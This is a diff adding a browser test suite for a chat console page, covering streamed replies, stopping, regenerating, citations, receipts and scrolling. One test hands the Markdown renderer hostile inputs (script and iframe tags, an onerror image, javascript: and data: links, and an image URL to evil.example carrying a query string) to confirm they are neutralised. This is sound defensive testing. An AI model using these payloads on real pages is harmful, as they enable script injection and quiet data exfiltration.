@@ -1,0 +1,198 @@
+import { describe, expect, test } from 'vitest'
+import { findBrowser, noBrowser } from '../browser.ts'
+import { receipt } from '../servers/console-api.ts'
+import { citations, hash, pictureOf, usePage } from './console-page-setup.ts'
+
+const here = findBrowser() !== null
+
+describe.skipIf(!here)(here ? 'the console page' : `the console page (${noBrowser})`, () => {
+  const open = usePage()
+
+  test('a question is sent, its reply streams in, and both survive a reload', async () => {
+    const { page, api, ask, input } = await open()
+    const turn = await ask('What is a **lease**?')
+    expect(api.sent).toMatchObject([{ text: 'What is a **lease**?', uploads: [] }])
+    turn.status('Reading lease.pdf, page 3 of 12')
+    await page.getByRole('progressbar', { name: 'Reading lease.pdf, page 3 of 12' }).waitFor()
+    turn.status('Answering', 'answering')
+    turn.write('A lease is **a hold')
+    await page.locator('.reply strong', { hasText: 'a hold' }).waitFor()
+    turn.write(' with an end**.\n\n```ts\nconst lease = 1\n```\n')
+    turn.finish()
+    await page.getByRole('button', { name: 'Regenerate' }).waitFor()
+    await page.locator('.hljs-keyword', { hasText: 'const' }).waitFor()
+    expect(await page.locator('.status-line').count()).toBe(0)
+    expect(await page.locator('.code-block figcaption span').first().textContent()).toBe('ts')
+    expect(await input.evaluate((element) => element === document.activeElement)).toBe(true)
+
+    const address = page.url()
+    await page.reload()
+    await page.getByText('with an end').waitFor()
+    expect(page.url()).toBe(address)
+    expect(await page.locator('.bubble').textContent()).toBe('What is a **lease**?')
+    await page.getByRole('link', { name: /What is a/ }).waitFor()
+  })
+
+  test('a running reply is stopped with the button or with Esc, and says so', async () => {
+    const { page, ask } = await open()
+    const first = await ask('Count to a million')
+    first.write('1, 2, 3')
+    await page.getByText('1, 2, 3').waitFor()
+    await page.getByRole('button', { name: 'Stop' }).click()
+    await first.stopped
+    await page.getByText('Stopped.', { exact: true }).waitFor()
+    const second = await ask('Again')
+    await page.getByRole('button', { name: 'Stop' }).waitFor()
+    await page.keyboard.press('Escape')
+    await second.stopped
+    await page.getByRole('button', { name: 'Send' }).waitFor()
+  })
+
+  test('the last reply is written anew in its place; a failed one offers that as its way on', async () => {
+    const { page, api, ask } = await open()
+    const first = await ask('Say a number')
+    first.write('Seven')
+    first.finish()
+    await page.getByRole('button', { name: 'Regenerate' }).click()
+    const second = await api.nextTurn()
+    second.finish({ state: 'failed', text: 'The model did not answer in time. Try again, or choose another one.' })
+    const failure = page.getByRole('alert')
+    await failure.getByText('did not answer in time').waitFor()
+    expect(await page.getByText('Seven').count()).toBe(0)
+    await failure.getByRole('button', { name: 'Try again' }).click()
+    const third = await api.nextTurn()
+    third.write('Eight')
+    third.finish()
+    await page.getByText('Eight').waitFor()
+    expect(await page.locator('.reply').count()).toBe(1)
+  })
+
+  test('a citation opens its page with the passage marked, and Esc gives the focus back', async () => {
+    const { page, ask } = await open()
+    const turn = await ask('How was the quarter?')
+    turn.write('Revenue grew [1], and a`[2]` stays code. Not known: [7].')
+    const file = { attachmentId: 'a', name: 'report.pdf', outcome: 'read' as const, summary: '48 pages read' }
+    turn.finish({
+      citations,
+      receipt: receipt({ attachments: [{ ...file, problems: [], contentHash: hash, pages: 48 }] }),
+    })
+    const chip = page.getByRole('button', { name: 'Source 1: report.pdf, p. 12' })
+    await chip.waitFor()
+    expect(await page.locator('.markdown code').textContent()).toBe('[2]')
+    await page.getByText('Not known: [7].').waitFor()
+
+    await chip.click()
+    const panel = page.getByRole('dialog', { name: 'report.pdf' })
+    await panel.getByText('Page 12 of 48').waitFor()
+    await panel.getByText('Revenue grew by 14 percent').waitFor()
+    await panel.locator('.page-mark').first().waitFor()
+    expect(await panel.locator('.page-mark').count()).toBe(3)
+    const next = pictureOf(page, 13)
+    await panel.getByRole('button', { name: 'Next page' }).click()
+    await next
+    await panel.getByRole('img', { name: 'Page 13 of report.pdf' }).waitFor()
+    expect(await panel.locator('.page-mark').count()).toBe(0)
+    await panel.getByRole('button', { name: 'Back to page 12' }).click()
+    await panel.locator('.page-mark').first().waitFor()
+    const before = (await panel.locator('.page').boundingBox())?.width ?? 0
+    await panel.getByRole('button', { name: '100%' }).click()
+    await expect.poll(async () => (await panel.locator('.page').boundingBox())?.width).toBeGreaterThan(before)
+    await page.keyboard.press('Escape')
+    await panel.waitFor({ state: 'detached' })
+    await expect.poll(() => chip.evaluate((element) => element === document.activeElement)).toBe(true)
+
+    await page.getByRole('button', { name: /server\.log/ }).click()
+    await page.locator('.text-line.cited').first().waitFor()
+    expect(await page.locator('.text-line.cited .line-number').allTextContents()).toEqual(['137', '138', '139'])
+  })
+
+  test('what was left out shows at once, and the receipt tells the rest', async () => {
+    const { page, ask } = await open()
+    const turn = await ask('Summarise')
+    turn.write('Done.')
+    const skipped = {
+      attachmentId: 'b',
+      name: 'film.mov',
+      outcome: 'skipped' as const,
+      summary: 'skipped: 312 MB is over the limit of 100 MB',
+      problems: [],
+    }
+    turn.finish({
+      receipt: receipt({
+        attachments: [skipped],
+        costNanoUsd: null,
+        attempts: 2,
+        notices: ['The answer was cut short.'],
+      }),
+    })
+    await page.getByText('film.mov was not read: 312 MB is over the limit of 100 MB').waitFor()
+    await page.getByText('The answer was cut short.').waitFor()
+    await page.getByRole('button', { name: 'Receipt' }).click()
+    const card = page.getByRole('region', { name: 'Receipt' })
+    const text = (await card.textContent()) ?? ''
+    for (const part of ['gpt-oss:20b', 'price not known', '1,840 in, 412 out', '6.8 s in all', 'Attempts2'])
+      expect(text).toContain(part)
+  })
+
+  test('Markdown of a hostile file stays words: no markup, no scripts, no picture from elsewhere', async () => {
+    const { page, ask } = await open()
+    const elsewhere: string[] = []
+    page.on('request', (request) => {
+      if (!request.url().startsWith('http://127.0.0.1')) elsewhere.push(request.url())
+    })
+    const turn = await ask('Read this')
+    turn.write(
+      [
+        '<img src=x onerror="document.title=1"><script>document.title=2</script>',
+        '[go](javascript:alert(1)) [data](data:text/html,x) [page](/console/threads)',
+        '![secret](https://evil.example/p.png?q=words) [fine](https://example.org)',
+        '<iframe src="https://evil.example"></iframe>',
+      ].join('\n\n'),
+    )
+    turn.finish()
+    const reply = page.locator('.reply')
+    await reply.getByRole('link', { name: 'fine' }).waitFor()
+    expect(await reply.locator('img, script, iframe').count()).toBe(0)
+    expect(await reply.locator('a').evaluateAll((links) => links.map((link) => link.getAttribute('href')))).toEqual([
+      'https://evil.example/p.png?q=words',
+      'https://example.org',
+    ])
+    const fine = reply.getByRole('link', { name: 'fine' })
+    expect(await fine.getAttribute('rel')).toBe('noopener noreferrer')
+    expect(await fine.getAttribute('target')).toBe('_blank')
+    await reply.getByText('<script>document.title=2</script>').waitFor()
+    expect(elsewhere).toEqual([])
+  })
+
+  test('reading on above is not disturbed by new text, and one press leads back down', async () => {
+    const { page, ask } = await open()
+    const turn = await ask('Write a lot')
+    turn.write(Array.from({ length: 80 }, (_, index) => `Paragraph ${index}.\n\n`).join(''))
+    await page.getByText('Paragraph 79.').waitFor()
+    const list = page.getByRole('region', { name: 'Messages' })
+    const left = () => list.evaluate((box) => Math.round(box.scrollHeight - box.clientHeight - box.scrollTop))
+    await expect.poll(left).toBeLessThan(4)
+    await list.hover()
+    await page.mouse.wheel(0, -900)
+    const jump = page.getByRole('button', { name: 'Jump to latest' })
+    await jump.waitFor()
+    turn.write('The end.')
+    await page.getByText('The end.').waitFor()
+    expect(await left()).toBeGreaterThan(300)
+    await jump.click()
+    await expect.poll(left).toBeLessThan(4)
+    await jump.waitFor({ state: 'detached' })
+  })
+
+  test('a gap in the text is mended by a fresh snapshot', async () => {
+    const { page, api, ask } = await open()
+    const turn = await ask('Tell')
+    turn.write('One ')
+    await page.getByText('One').waitFor()
+    const id = await page.evaluate(() => location.hash.slice(4))
+    api.push(id, { type: 'text', messageId: 'unheard-of', offset: 900, text: 'lost' })
+    turn.write('two three')
+    await page.getByText('One two three').waitFor()
+    await expect.poll(() => api.requests.filter((request) => request === 'GET /console/events').length).toBe(2)
+  })
+})
